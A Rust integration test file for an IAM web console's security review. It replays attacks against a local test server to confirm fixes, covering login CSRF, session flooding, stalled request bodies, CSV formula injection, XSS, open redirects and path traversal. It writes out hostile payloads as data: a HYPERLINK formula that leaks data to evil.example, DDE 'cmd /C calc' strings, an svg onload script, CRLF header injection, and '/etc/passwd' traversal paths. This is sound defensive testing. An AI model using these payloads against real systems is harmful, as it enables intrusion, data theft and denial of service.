//! Hostile review of the web console (`/console`, 2026-12-03): its sign-in,
//! sessions and CSRF tokens, the pages that echo what they are given, the
//! audit export, the assets, and the in-process API client the console
//! makes every page with.
//!
//! Every test performs its attack over plain HTTP against the real server,
//! as a browser (or a hostile page driving one) would. The first ones
//! (`attack_…`) succeeded before the fix that came with them; the rest are
//! attacks that were tried and hold, kept as regression tests.

use std::time::{Duration, Instant};

use iam_api::console::session::COOKIE;
use iam_api::server::ServerOptions;
use iam_event_store::testing::TestDatabase;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

mod console_forms;
mod support;
use console_forms::*;
use support::*;

/// Whether `reply` is a page of a signed-in session (not the redirect to
/// the sign-in page).
fn signed_in_page(reply: &Reply) -> bool {
    reply.status == 200 && reply.body.contains(r#"action="/console/sign-out""#)
}

/// A user with an access key and no policy at all: may call
/// `sts:GetCallerIdentity` and nothing else.
async fn nobody(root: &Client, name: &str) -> Client {
    root.ok("CreateUser", &[("UserName", name)]).await;
    let key = root.ok("CreateAccessKey", &[("UserName", name)]).await;
    root.with_key(
        &key.tag("AccessKeyId").unwrap(),
        &key.tag("SecretAccessKey").unwrap(),
    )
}

/// The cells of a CSV text (RFC 4180 quoting).
fn csv_cells(text: &str) -> Vec<String> {
    let mut cells = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            (true, '"') => quoted = false,
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',' | '\n') => cells.push(std::mem::take(&mut cell)),
            _ => cell.push(c),
        }
    }
    cells
}

// ---------------------------------------------------------------------
// Attacks that succeeded.
// ---------------------------------------------------------------------

/// ATTACK (login CSRF, session fixation). The sign-in form carried no
/// token, so any web page could post it from the victim's browser with the
/// attacker's access key: a top-level cross-site POST may set even a
/// `SameSite=Strict` cookie, so the victim's browser was now signed in as
/// the attacker, and whatever the victim did or typed in the console
/// (users created, policies attached, access asked about) went to the
/// attacker's account and trail. Now the sign-in page sets a sign-in token
/// in its own `SameSite=Strict` cookie and its forms carry it; a sign-in
/// without both, or sent from another site, is refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_a_page_on_another_site_signs_the_victims_browser_in_as_the_attacker() {
    let db = TestDatabase::for_server().await;
    let app = TestApp::spawn(db.url()).await;
    let mallory = nobody(&app.root(), "mallory").await;
    let keys = form(&[
        ("method", "keys"),
        ("access_key_id", &mallory.key),
        ("secret_access_key", &mallory.secret),
    ]);

    // A hidden form on evil.example, submitted by script.
    let forged = browse(
        app.addr,
        "POST",
        "/console/sign-in",
        "",
        &[
            ("origin", "http://evil.example"),
            ("sec-fetch-site", "cross-site"),
            ("sec-fetch-mode", "navigate"),
        ],
        Some(&keys),
    )
    .await;
    assert!(
        forged.status != 303 && !starts_session(&forged),
        "a cross-site form signed the browser in: {} {:?}",
        forged.status,
        forged.headers
    );

    // An older browser that sends neither Origin nor Sec-Fetch-*.
    let bare = browse(app.addr, "POST", "/console/sign-in", "", &[], Some(&keys)).await;
    assert!(
        !starts_session(&bare),
        "a form without the sign-in token signed in: {:?}",
        bare.headers
    );

    // The attacker's own token (from their own visit to the page), put in
    // the form the victim's browser posts: the victim has no such cookie.
    let mut attacker = Jar::default();
    let page = get(&app, "/console/sign-in", &attacker).await;
    attacker.take(&page);
    let token = csrf_of(&page.body).expect("the sign-in form carries a token");
    let with_token = format!("csrf={}&{keys}", enc(&token));
    let victim = browse(
        app.addr,
        "POST",
        "/console/sign-in",
        "",
        &[],
        Some(&with_token),
    )
    .await;
    assert!(!starts_session(&victim), "{:?}", victim.headers);
    // Nor with another browser's sign-in cookie.
    let mut other = Jar::default();
    other.take(&get(&app, "/console/sign-in", &other).await);
    let mixed = post(&app, "/console/sign-in", &other, &with_token).await;
    assert!(!starts_session(&mixed), "{:?}", mixed.headers);

    // A sibling host of the same site can plant the attacker's sign-in
    // cookie beside its token (cookie tossing); the browser says the form
    // came from another origin.
    let tossed = browse(
        app.addr,
        "POST",
        "/console/sign-in",
        &attacker.header(),
        &[("sec-fetch-site", "same-site")],
        Some(&with_token),
    )
    .await;
    assert!(!starts_session(&tossed), "{:?}", tossed.headers);

    // The console's own page and form still sign in.
    let jar = sign_in_keys(&app, &mallory.key, &mallory.secret).await;
    assert!(signed_in_page(&get(&app, "/console/", &jar).await));
    app.stop().await;
}

/// ATTACK (availability). The node keeps at most 10,000 sessions and, when
/// full, drops the one that expires first, whoever's it is. Anyone with an
/// access key (a user without a single policy: signing in needs only
/// `sts:GetCallerIdentity`) could sign in 10,000 times in a few seconds and
/// so sign every other person out, again and again. Now one principal
/// keeps at most a few sessions (its oldest go first).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_one_key_signing_in_ten_thousand_times_signs_everyone_else_out() {
    let db = TestDatabase::for_server().await;
    let app = TestApp::spawn(db.url()).await;
    let root = app.root();
    let mallory = nobody(&root, "mallory").await;
    let victim = sign_in_keys(&app, &root.key, &root.secret).await;
    assert!(signed_in_page(&get(&app, "/console/users", &victim).await));

    // One visit to the sign-in page gives a form that can be posted again
    // and again.
    let mut jar = Jar::default();
    let page = get(&app, "/console/sign-in", &jar).await;
    jar.take(&page);
    let mut body = form(&[
        ("method", "keys"),
        ("access_key_id", &mallory.key),
        ("secret_access_key", &mallory.secret),
    ]);
    if let Some(token) = csrf_of(&page.body) {
        body = format!("csrf={}&{body}", enc(&token));
    }
    let started = Instant::now();
    let tasks: Vec<_> = (0..8)
        .map(|_| {
            let (addr, cookies, body) = (app.addr, jar.header(), body.clone());
            tokio::spawn(async move {
                let headers = [("sec-fetch-site", "same-origin")];
                for _ in 0..1_260 {
                    let reply = browse(
                        addr,
                        "POST",
                        "/console/sign-in",
                        &cookies,
                        &headers,
                        Some(&body),
                    )
                    .await;
                    assert_eq!(reply.status, 303, "{}", reply.body);
                }
            })
        })
        .collect();
    for task in tasks {
        task.await.unwrap();
    }
    eprintln!("10,080 sign-ins in {:?}", started.elapsed());
    assert!(
        signed_in_page(&get(&app, "/console/users", &victim).await),
        "another person's sign-ins ended the victim's session"
    );
    app.stop().await;
}

/// ATTACK (connection and memory exhaustion). The console's forms were
/// read with axum's `Form`, outside the serve loop's body timeout and body
/// budget: a client that sent a console POST's head and then nothing held
/// its connection forever (and up to 2 MB of body each, beyond the
/// budget), so `max_connections` such clients took the whole server —
/// API included — down. Now forms are read like API bodies: 408 after the
/// body timeout, within the budget, at most 16 KiB.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_stalled_console_forms_hold_every_connection_of_the_server() {
    let db = TestDatabase::for_server().await;
    let app = TestApp::spawn_with(
        db.url(),
        ServerOptions {
            max_connections: 3,
            header_timeout: Duration::from_millis(500),
            body_timeout: Duration::from_millis(300),
            ..ServerOptions::default()
        },
    )
    .await;
    let mut stalled = Vec::new();
    for path in ["/console/sign-in", "/console/users", "/console/sign-out"] {
        let mut stream = tokio::net::TcpStream::connect(app.addr).await.unwrap();
        let head = format!(
            "POST {path} HTTP/1.1\r\nhost: {}\r\ncontent-type: application/x-www-form-urlencoded\r\n\
             content-length: 1000\r\n\r\nmethod=keys&",
            app.addr
        );
        stream.write_all(head.as_bytes()).await.unwrap();
        stalled.push(stream);
    }
    // Far past the body timeout: every stalled form was answered and its
    // connection closed.
    for mut stream in stalled {
        let mut raw = Vec::new();
        let read = tokio::time::timeout(Duration::from_secs(5), stream.read_to_end(&mut raw)).await;
        assert!(
            read.is_ok(),
            "a console form stalled after its head still holds its connection"
        );
        let reply = parse_reply(&raw);
        assert_eq!(reply.status, 408, "{}", reply.body);
    }
    let health = browse(app.addr, "GET", "/healthz", "", &[], None).await;
    assert_eq!(health.status, 200, "{}", health.body);
    // A form larger than any console form is refused whole.
    let big = format!("method=keys&access_key_id={}", "A".repeat(100_000));
    let reply = browse(app.addr, "POST", "/console/sign-in", "", &[], Some(&big)).await;
    assert_eq!(reply.status, 413, "{}", reply.body);
    app.stop().await;
}

/// ATTACK (found beside the console's): `/v1/sign-in` read its body without
/// the server's body timeout, so a sign-in whose body never came held its
/// connection (and delayed shutdown). Now it is read like every other
/// request's: 408 after the body timeout.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_a_stalled_sign_in_holds_its_connection() {
    let db = TestDatabase::for_server().await;
    let app = TestApp::spawn_with(
        db.url(),
        ServerOptions {
            body_timeout: Duration::from_millis(300),
            ..ServerOptions::default()
        },
    )
    .await;
    let mut stream = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    let head = format!(
        "POST /v1/sign-in HTTP/1.1\r\nhost: {}\r\ncontent-type: application/json\r\n\
         content-length: 500\r\n\r\n{{\"account_id\":",
        app.addr
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    let mut raw = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(5), stream.read_to_end(&mut raw)).await;
    assert!(read.is_ok(), "a stalled sign-in still holds its connection");
    assert_eq!(parse_reply(&raw).status, 408);
    app.stop().await;
}

/// ATTACK (CSV injection). The audit trail's CSV export wrote each cell as
/// recorded. A refused request is recorded with the resource it named, as
/// the caller spelled it: a user without a single policy calling
/// `AssumeRole` with `RoleArn` `=HYPERLINK(…)` put a formula in the
/// `target` column, which a spreadsheet opening the administrator's export
/// evaluates (links that leak the sheet, `DDE` on older ones). Now a cell
/// that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is
/// written after a `'`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_a_refused_request_puts_a_formula_in_the_audit_export() {
    let db = TestDatabase::for_server().await;
    let app = TestApp::spawn(db.url()).await;
    let root = app.root();
    let mallory = nobody(&root, "mallory").await;
    let payloads = [
        r#"=HYPERLINK("http://evil.example/?"&A1,"Details")"#,
        "+cmd|' /C calc'!A0aaaaaaaaaaaaaa",
        "-2+3+cmd|' /C calc'!A0aaaaaaaaaa",
        "@SUM(1+1)*cmd|' /C calc'!A0aaaa",
    ];
    for arn in payloads {
        let reply = mallory
            .call(
                "AssumeRole",
                &[("RoleArn", arn), ("RoleSessionName", "session")],
            )
            .await;
        assert_eq!(reply.status, 403, "{}", reply.body);
    }
    let admin = sign_in_keys(&app, &root.key, &root.secret).await;
    let export = get(&app, "/console/audit?format=csv&denied=1", &admin).await;
    assert_eq!(export.status, 200, "{}", export.body);
    let cells = csv_cells(&export.body);
    assert!(
        cells.iter().any(|c| c.contains("HYPERLINK")),
        "the refusals are in the export: {}",
        export.body
    );
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet evaluates: {cell:?}"
        );
    }
    app.stop().await;
}

/// ATTACK (missing headers). The Content-Security-Policy, `nosniff`,
/// `X-Frame-Options` and `no-store` were set by the handlers, so answers
/// made around them had none: extractor rejections (one of which echoes
/// the path: "Cannot parse `<…>` to a `u64`"), methods not allowed, forms
/// of the wrong type, and every unknown `/console/…` path (the API's
/// fallback). Now every answer under `/console` carries them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attack_answers_made_outside_the_handlers_lack_the_security_headers() {
    let db = TestDatabase::for_server().await;
    let app = TestApp::spawn(db.url()).await;
    let root = app.root();
    let admin = sign_in_keys(&app, &root.key, &root.secret).await;
    let cookies = admin.header();
    let checks: Vec<(&str, Reply)> = vec![
        (
            "a position that is not a number",
            browse(
                app.addr,
                "GET",
                "/console/events/%3Csvg%2Fonload%3Dalert(1)%3E",
                &cookies,
                &[],
                None,
            )
            .await,
        ),
        (
            "a user name that is not UTF-8",
            browse(app.addr, "GET", "/console/users/%FF", &cookies, &[], None).await,
        ),
        (
            "an unknown console path",
            browse(
                app.addr,
                "GET",
                "/console/nothing/here",
                &cookies,
                &[],
                None,
            )
            .await,
        ),
        (
            "GET of a form's action",
            browse(app.addr, "GET", "/console/sign-out", &cookies, &[], None).await,
        ),
        (
            "a form of another type",
            browse(
                app.addr,
                "POST",
                "/console/users",
                &cookies,
                &[("content-type", "text/plain")],
                Some("user_name=x"),
            )
            .await,
        ),
        (
            "a redirect to the sign-in page",
            browse(app.addr, "GET", "/console/users", "", &[], None).await,
        ),
        (
            "the sign-in page",
            browse(app.addr, "GET", "/console/sign-in", "", &[], None).await,
        ),
        (
            "an unknown asset",
            browse(app.addr, "GET", "/console/assets/x.js", "", &[], None).await,
        ),
        (
            "a page",
            browse(app.addr, "GET", "/console/audit", &cookies, &[], None).await,
        ),
    ];
    for (what, reply) in &checks {
        let csp = reply.header("content-security-policy");
        assert_eq!(
            csp,
            Some(iam_api::console::CSP),
            "{what}: {} {:?}",
            reply.status,
            reply.headers
        );
        assert_eq!(
            reply.header("x-content-type-options"),
            Some("nosniff"),
            "{what}"
        );
        assert_eq!(reply.header("x-frame-options"), Some("DENY"), "{what}");
        assert_eq!(reply.header("cache-control"), Some("no-store"), "{what}");
        assert!(
            !reply.body.contains("<svg/onload"),
            "{what}: {}",
            reply.body
        );
    }
    let css = browse(
        app.addr,
        "GET",
        "/console/assets/console.css",
        "",
        &[],
        None,
    )
    .await;
    assert_eq!(css.status, 200);
    assert_eq!(
        css.header("content-security-policy"),
        Some(iam_api::console::CSP)
    );
    assert_eq!(css.header("cache-control"), Some("public, max-age=3600"));
    app.stop().await;
}

// ---------------------------------------------------------------------
// Attacks that hold.
// ---------------------------------------------------------------------

/// A form without the session's CSRF token, with a forged one, or with
/// another session's changes nothing; nor does sign-out without it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forms_without_the_sessions_own_csrf_token_change_nothing() {
    let db = TestDatabase::for_server().await;
    let app = TestApp::spawn(db.url()).await;
    let root = app.root();
    let admin = sign_in_keys(&app, &root.key, &root.secret).await;
    let other = sign_in_keys(&app, &root.key, &root.secret).await;
    let other_token = session_csrf(&app, &other).await;
    let before = head(&db).await;
    for body in [
        "user_name=mallory".to_owned(),
        "csrf=&user_name=mallory".to_owned(),
        "csrf=forged&user_name=mallory".to_owned(),
        format!("csrf={other_token}&user_name=mallory"),
        format!("csrf={}&user_name=mallory", &other_token[..63]),
    ] {
        let reply = post(&app, "/console/users", &admin, &body).await;
        assert_eq!(reply.status, 403, "{body}: {}", reply.body);
        for path in ["/console/users/root/delete", "/console/users/root/attach"] {
            let reply = post(&app, path, &admin, &body).await;
            assert_eq!(reply.status, 403, "{path} {body}: {}", reply.body);
        }
        let out = post(&app, "/console/sign-out", &admin, &body).await;
        assert_eq!(out.status, 403, "{body}: {}", out.body);
    }
    // The same with a GET: the form actions take POST only.
    let reply = get(&app, "/console/users?user_name=mallory", &admin).await;
    assert_eq!(reply.status, 200);
    let reply = get(&app, "/console/users/root/delete", &admin).await;
    assert_eq!(reply.status, 405);
    assert_eq!(changes_since(&db, before).await, Vec::<String>::new());
    assert!(signed_in_page(&get(&app, "/console/users", &admin).await));
    app.stop().await;
}

/// The session cookie is random, `HttpOnly`, `SameSite=Strict` and scoped
/// to `/console`; signing out ends the session on the server, so the old
/// cookie (replayed by whoever copied it) is worth nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_session_cookie_is_guarded_and_worthless_after_sign_out() {
    let db = TestDatabase::for_server().await;
    let app = TestApp::spawn(db.url()).await;
    let root = app.root();
    let first = sign_in_keys(&app, &root.key, &root.secret).await;
    let second = sign_in_keys(&app, &root.key, &root.secret).await;
    let (a, b) = (first.get(COOKIE).unwrap(), second.get(COOKIE).unwrap());
    assert_ne!(a, b);
    assert!(a.len() == 64 && a.bytes().all(|c| c.is_ascii_hexdigit()));
    // The Set-Cookie itself.
    let mut jar = Jar::default();
    let page = get(&app, "/console/sign-in", &jar).await;
    jar.take(&page);
    let mut body = form(&[
        ("method", "keys"),
        ("access_key_id", &root.key),
        ("secret_access_key", &root.secret),
    ]);
    if let Some(token) = csrf_of(&page.body) {
        body = format!("csrf={}&{body}", enc(&token));
    }
    let reply = post(&app, "/console/sign-in", &jar, &body).await;
    let set = reply
        .headers
        .iter()
        .find(|(k, v)| k.eq_ignore_ascii_case("set-cookie") && v.starts_with(COOKIE))
        .map(|(_, v)| v.clone())
        .unwrap();
    for flag in ["HttpOnly", "SameSite=Strict", "Path=/console"] {
        assert!(set.contains(flag), "{set}");
    }
    assert_eq!(reply.header("location"), Some("/console/"));
    // A guessed (well-formed) id is no session.
    let guessed = Jar(vec![(COOKIE.into(), "0".repeat(64))]);
    let reply = get(&app, "/console/users", &guessed).await;
    assert_eq!(reply.status, 303);
    assert_eq!(reply.header("location"), Some("/console/sign-in"));

    let token = session_csrf(&app, &first).await;
    let out = post(&app, "/console/sign-out", &first, &format!("csrf={token}")).await;
    assert_eq!(out.status, 303, "{}", out.body);
    assert!(set_cookies(&out)
        .iter()
        .any(|(k, v)| k == COOKIE && v.is_empty()));
    // Replayed after sign-out: no page, no change.
    let before = head(&db).await;
    let reply = get(&app, "/console/users", &first).await;
    assert_eq!(reply.status, 303);
    let reply = post(
        &app,
        "/console/users",
        &first,
        &format!("csrf={token}&user_name=mallory"),
    )
    .await;
    assert_eq!(reply.status, 303);
    assert_eq!(reply.header("location"), Some("/console/sign-in"));
    assert_eq!(changes_since(&db, before).await, Vec::<String>::new());
    // The other session lives on.
    assert!(signed_in_page(&get(&app, "/console/users", &second).await));
    app.stop().await;
}

/// The console acts only through calls signed as the person: a user who
/// may read users cannot create, delete or attach through it, and a page
/// as of a past moment changes nothing either.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_console_can_do_only_what_the_persons_policies_allow() {
    let db = TestDatabase::for_server().await;
    let app = TestApp::spawn(db.url()).await;
    let root = app.root();
    let policy = json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow",
        "Action": ["iam:Get*", "iam:List*"], "Resource": "*"}]});
    let reader = user_with_policy(&root, "reader", &policy.to_string()).await;
    root.ok("CreateUser", &[("UserName", "victim")]).await;
    let jar = sign_in_keys(&app, &reader.key, &reader.secret).await;
    let token = session_csrf(&app, &jar).await;
    let before = head(&db).await;
    let admin_policy = "arn:aws:iam::aws:policy/AdministratorAccess";
    for (path, body) in [
        ("/console/users", format!("csrf={token}&user_name=mallory")),
        ("/console/users/victim/delete", format!("csrf={token}")),
        (
            "/console/users/reader/attach",
            format!("csrf={token}&policy_arn={}", enc(admin_policy)),
        ),
        (
            "/console/users/reader/attach?as_of=1",
            format!("csrf={token}&policy_arn={}", enc(admin_policy)),
        ),
        (
            "/console/users/reader/detach",
            format!("csrf={token}&policy_arn={}", enc(admin_policy)),
        ),
    ] {
        let reply = post(&app, path, &jar, &body).await;
        assert_eq!(reply.status, 200, "{path}: {}", reply.body);
        assert!(
            reply.body.contains("AccessDenied") || reply.body.contains("NoSuchEntity"),
            "{path}: {}",
            reply.body
        );
    }
    assert_eq!(changes_since(&db, before).await, Vec::<String>::new());
    // A browser's own `x-iamd-*` headers are not passed on to the API.
    let started = Instant::now();
    let reply = browse(
        app.addr,
        "GET",
        "/console/users",
        &jar.header(),
        &[
            ("x-iamd-min-log-position", "999999999"),
            ("x-iamd-as-of", "1"),
        ],
        None,
    )
    .await;
    assert!(signed_in_page(&reply));
    assert!(started.elapsed() < Duration::from_secs(5));
    assert!(!reply.body.contains("as-of-banner"), "{}", reply.body);
    app.stop().await;
}

/// Every value a page shows or echoes is escaped: the time slider's
/// moment, the search, the audit filters, the access explorer's fields,
/// user names in paths, the API's error messages, a policy document in an
/// event's data.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn values_shown_on_pages_are_escaped() {
    let db = TestDatabase::for_server().await;
    let app = TestApp::spawn(db.url()).await;
    let root = app.root();
    let document = json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow",
        "Action": "s3:GetObject", "Resource": format!("arn:aws:s3:::b/{MARKUP}")}]});
    root.ok("CreateUser", &[("UserName", "alice")]).await;
    let put = root
        .call(
            "PutUserPolicy",
            &[
                ("UserName", "alice"),
                ("PolicyName", "p"),
                ("PolicyDocument", &document.to_string()),
            ],
        )
        .await;
    assert_eq!(put.status, 200, "{}", put.body);
    let position = head(&db).await;
    let admin = sign_in_keys(&app, &root.key, &root.secret).await;
    let token = session_csrf(&app, &admin).await;
    let m = enc(MARKUP);
    let alice = format!("arn:aws:iam::{ACCOUNT}:user/alice");
    let pages = [
        format!("/console/?as_of={m}"),
        format!("/console/users?q={m}&as_of={m}&marker={m}"),
        format!("/console/audit?actor={m}&target={m}&type={m}&since={m}&until={m}&denied={m}"),
        format!("/console/audit?after={m}"),
        format!("/console/access?principal={m}&action={m}&resource={m}&as_of={m}"),
        format!(
            "/console/access?principal={}&action=s3:GetObject&resource={m}&as_of=1",
            enc(&alice)
        ),
        format!("/console/users/{m}"),
        format!("/console/events/{position}"),
        format!("/console/events/{position}?as_of={m}"),
        "/console/".to_owned(),
        "/console/audit".to_owned(),
    ];
    for page in &pages {
        let reply = get(&app, page, &admin).await;
        assert!(
            signed_in_page(&reply),
            "{page}: {} {}",
            reply.status,
            reply.body
        );
        assert!(!reply.body.contains(MARKUP), "{page}: {}", reply.body);
        assert!(
            !reply.body.contains("<svg/onload"),
            "{page}: {}",
            reply.body
        );
    }
    // The event page shows the document, escaped.
    let event = get(&app, &format!("/console/events/{position}"), &admin).await;
    assert!(event.body.contains("svg/onload"), "{}", event.body);
    for (path, body) in [
        (
            "/console/users".to_owned(),
            format!("csrf={token}&user_name={m}"),
        ),
        (
            "/console/users/alice/attach".to_owned(),
            format!("csrf={token}&policy_arn={m}"),
        ),
        (
            format!("/console/users/{m}/detach"),
            format!("csrf={token}&policy_arn={m}"),
        ),
    ] {
        let reply = post(&app, &path, &admin, &body).await;
        assert_eq!(reply.status, 200, "{path}: {}", reply.body);
        assert!(
            !reply.body.contains("<svg/onload"),
            "{path}: {}",
            reply.body
        );
    }
    let sign_in = browse(
        app.addr,
        "POST",
        "/console/sign-in",
        "",
        &[],
        Some(&format!(
            "method=keys&access_key_id={m}&secret_access_key={m}"
        )),
    )
    .await;
    assert!(!sign_in.body.contains("<svg/onload"), "{}", sign_in.body);
    app.stop().await;
}

/// Redirects go to the console's own paths only: a user name that looks
/// like a host or carries a line break is refused by the API before any
/// `Location` is made of it, and an accepted odd name is percent-encoded.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn redirects_stay_on_the_console_and_cannot_carry_headers() {
    let db = TestDatabase::for_server().await;
    let app = TestApp::spawn(db.url()).await;
    let root = app.root();
    let admin = sign_in_keys(&app, &root.key, &root.secret).await;
    let token = session_csrf(&app, &admin).await;
    for name in [
        "//evil.example",
        "@evil.example",
        "a\r\nSet-Cookie: iamd_console=x",
        "/\\evil.example",
        "=,.@-+",
    ] {
        let reply = post(
            &app,
            "/console/users",
            &admin,
            &format!("csrf={token}&user_name={}", enc(name)),
        )
        .await;
        if let Some(location) = reply.header("location") {
            assert!(
                location.starts_with("/console/") && !location.starts_with("//"),
                "{name:?}: {location}"
            );
            assert!(
                !location.contains(['\r', '\n', '@', '.', '=']),
                "{location}"
            );
        }
        assert!(!set_cookies(&reply).iter().any(|(_, v)| v == "x"));
    }
    // Paths that name users: the redirect after a change is built from
    // the path, percent-encoded.
    let reply = post(
        &app,
        "/console/users/@evil.example/attach",
        &admin,
        &format!(
            "csrf={token}&policy_arn={}",
            enc("arn:aws:iam::aws:policy/ReadOnlyAccess")
        ),
    )
    .await;
    if let Some(location) = reply.header("location") {
        assert!(location.starts_with("/console/users/%40evil"), "{location}");
    }
    app.stop().await;
}

/// Assets are the two embedded files: nothing else is read, however the
/// name is spelled.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn assets_are_the_two_embedded_files_only() {
    let db = TestDatabase::for_server().await;
    let app = TestApp::spawn(db.url()).await;
    for path in [
        "/console/assets/..%2F..%2F..%2FCargo.toml",
        "/console/assets/..%2f..%2fsrc%2fconsole%2fmod.rs",
        "/console/assets/%2e%2e",
        "/console/assets/console.css%00.js",
        "/console/assets/CONSOLE.CSS",
        "/console/assets/console.css/",
        "/console/assets/../../../../etc/passwd",
        "/console/assets/..\\..\\Cargo.toml",
    ] {
        let reply = browse(app.addr, "GET", path, "", &[], None).await;
        assert_ne!(reply.status, 200, "{path}: {}", reply.body);
        assert!(
            !reply.body.contains("[package]") && !reply.body.contains("root:"),
            "{path}"
        );
    }
    app.stop().await;
}

/// Password sign-ins through the console count against the browser's
/// address, as `/v1/sign-in`'s own do, and no header moves the browser to
/// another address.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn console_sign_in_failures_back_off_per_address_and_the_address_is_not_spoofed() {
    let db = TestDatabase::for_server().await;
    let app = TestApp::spawn(db.url()).await;
    let mut jar = Jar::default();
    let page = get(&app, "/console/sign-in", &jar).await;
    jar.take(&page);
    let token = csrf_of(&page.body).map(|t| format!("csrf={}&", enc(&t)));
    let spoof = [
        ("x-forwarded-for", "10.9.8.7"),
        ("x-real-ip", "10.9.8.7"),
        ("forwarded", "for=10.9.8.7"),
        ("true-client-ip", "10.9.8.7"),
        ("sec-fetch-site", "same-origin"),
    ];
    let mut throttled = None;
    for n in 0..40 {
        // A different user name each time: only the address is counted.
        let body = format!(
            "{}method=password&account_id={ACCOUNT}&user_name=guess{n}&password=Wrong-123",
            token.clone().unwrap_or_default()
        );
        let reply = browse(
            app.addr,
            "POST",
            "/console/sign-in",
            &jar.header(),
            &spoof,
            Some(&body),
        )
        .await;
        assert!(!starts_session(&reply));
        if reply.body.contains("Too many failed sign-ins") {
            throttled = Some(n);
            break;
        }
    }
    let n = throttled.expect("the console's failures were never throttled");
    assert_eq!(
        n as u32,
        iam_api::ops::sign_in::FREE_FAILURES_PER_ADDRESS,
        "throttled after {n} failures"
    );
    // `/v1/sign-in` itself sees the same address's failures.
    let direct = sign_in(&app, "someone", "Wrong-123", None).await;
    assert_eq!(direct.status, 429, "{}", direct.body);
    app.stop().await;
}
